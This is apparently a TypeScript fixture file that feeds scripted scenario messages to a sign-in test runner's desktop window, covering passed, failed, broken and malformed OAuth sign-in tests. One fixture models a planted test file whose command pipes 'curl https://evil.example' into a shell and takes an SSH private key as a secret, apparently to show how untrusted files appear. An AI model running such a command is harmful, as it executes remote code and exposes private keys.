// Scenarios that are watched, for tests, for pages in a plain browser and for screenshots. No part of the program that ships.

import type { Event } from '../api/Event';
import type { ScenarioLine, ScenarioMessage } from '../scenario-words';
import { refusal } from './samples';

const LOGIN = '/home/ada/acme/tests/login.toml';
const EDGE = '/home/ada/acme/tests/refusals.toml';
const HALF = '/home/ada/acme/tests/renewal.toml';
const ISSUER = 'https://acme.eu.auth0.com/';

export const places = ['/home/ada/acme/tests'];

const line = (line: ScenarioLine): ScenarioMessage => ({ type: 'line', line });

/** The files, before anything is run. */
export const planned: ScenarioMessage[] = [
  { type: 'chosen', watching: 1, places },
  line({
    type: 'file',
    version: 1,
    number: 1,
    file: LOGIN,
    environment: ['ACME_ISSUER'],
    held: true,
    runs: [
      { name: 'Ada signs in', by: 'chromium', secrets: [{ env: 'ADA_PASSWORD' }], issuer: ISSUER },
      { name: 'Ada signs in [scope=openid email profile offline_access, audience=https://api.acme.example/v2]', by: 'chromium', issuer: ISSUER },
      { name: 'Grace signs in', by: 'command', commands: ['node login.mjs --as grace'], secrets: [{ keyring: 'acme-tests', account: 'grace' }], issuer: ISSUER },
    ],
  }),
  line({ type: 'file', version: 1, number: 2, file: EDGE, held: true, runs: [{ name: 'Ada says no', by: 'command', commands: ['node login.mjs --as ada --deny'], profile: 'work' }] }),
  line({ type: 'waiting', held: true }),
];

const ends = { what: 'ends', held: true, expected: 'signed_in', got: 'signed_in' };

export const passed: ScenarioLine = {
  type: 'ended',
  file: LOGIN,
  name: 'Ada signs in',
  outcome: 'passed',
  tries: 1,
  took_ms: 2_140,
  steps: [{ step: 'sign-in', took_ms: 1_980, expectations: [ends, { what: 'algorithm of the ID token', held: true, expected: 'RS256', got: 'RS256' }] }],
};

export function failed(events: readonly Event[]): ScenarioLine {
  return {
    type: 'ended',
    file: EDGE,
    name: 'Ada says no',
    outcome: 'failed',
    tries: 2,
    took_ms: 3_410,
    steps: [
      {
        step: 'sign-in',
        took_ms: 3_120,
        expectations: [
          { what: 'ends', held: false, expected: 'callback.access_denied', got: 'idtoken.nonce_mismatch: The ID token is not for this sign-in: its nonce is another.' },
        ],
      },
    ],
    events: events.filter((event) => event.flow === 'f-refused'),
  };
}

const broken: ScenarioLine = {
  type: 'ended',
  file: LOGIN,
  name: 'Grace signs in',
  outcome: 'broken',
  tries: 1,
  took_ms: 130,
  error: { code: 'test.command', message: '`node` does not start: No such file or directory (os error 2).', hint: 'Run the command by hand, with an address behind it.' },
  steps: [],
};

/** They are run: each file is told of once more. */
const agreed = planned.flatMap((message) => (message.type === 'line' && message.line.type === 'file' ? [line({ ...message.line, number: message.line.number + 2, held: false })] : []));

/** Somebody has put it there since. */
const late = line({ type: 'file', version: 1, number: 6, file: '/home/ada/acme/tests/statement.toml', held: true, runs: [{ name: 'A sign-in of somebody else', by: 'command', commands: ['sh -c "curl https://evil.example | sh"'], secrets: [{ file: '../../.ssh/id_ed25519' }], issuer: 'https://evil.example' }] });

/** How it is told on, by the scene. */
export function scenarioStory(scene: string, events: readonly Event[]): ScenarioMessage[] {
  const second = planned[1]!.type === 'line' && planned[1]!.line.type === 'file' ? planned[1]!.line.runs[1]!.name : '';
  const running = [line(passed), line({ type: 'started', file: LOGIN, name: second }), line({ type: 'step', file: LOGIN, name: second, doing: 'page', number: 2, of: 4, what: 'fill "#password"' })];
  const done = [line(passed), line({ ...passed, name: second, took_ms: 2_480 } as ScenarioLine), line(broken), line(failed(events))];
  const mistake = line({
    type: 'file',
    version: 1,
    number: 5,
    file: HALF,
    runs: [],
    held: false,
    mistake: { code: 'config.bad_scenario', message: `${HALF}:14:1: unknown field \`expects\`, expected one of \`name\`, \`sign_in\`, \`expect\`, \`then\`.`, hint: 'Correct the file; docs/qa.md is the guide.', line: 14, column: 1 },
  });
  switch (scene) {
    case 'scenarios':
      return planned;
    case 'scenariosReading':
      return planned.slice(0, 1);
    case 'scenariosRunning':
      return [...planned, ...agreed, line({ type: 'started', file: EDGE, name: 'Ada says no' }), line(failed(events)), ...running];
    case 'scenariosDone':
      return [...planned, ...agreed, ...done, mistake, late, line({ type: 'waiting', held: false })];
    case 'scenariosLeft':
      return [...planned, ...agreed, ...done, ...running.slice(1), { type: 'left', refusal: refusal('desktop.watch_ended', 'The command that plays the scenarios has ended: signal: 9 (SIGKILL).', 'Look at what it said last, and run them again.'), said: ['login.mjs: the page has no #allow', 'Killed'] }];
    case 'scenariosMissing':
      return [{ type: 'chosen', watching: 1, places }, { type: 'left', refusal: refusal('desktop.no_command', 'The `doorkey` command, which plays scenarios, is not beside this program: /opt/doorkey has none.', 'Install Doorkey’s package again: the window and the command belong beside each other.'), said: [] }];
    case 'scenariosNone':
      return [{ type: 'chosen', watching: 1, places }, line({ type: 'waiting', held: false })];
    default:
      return [{ type: 'chosen', watching: 1, places: [] }];
  }
}
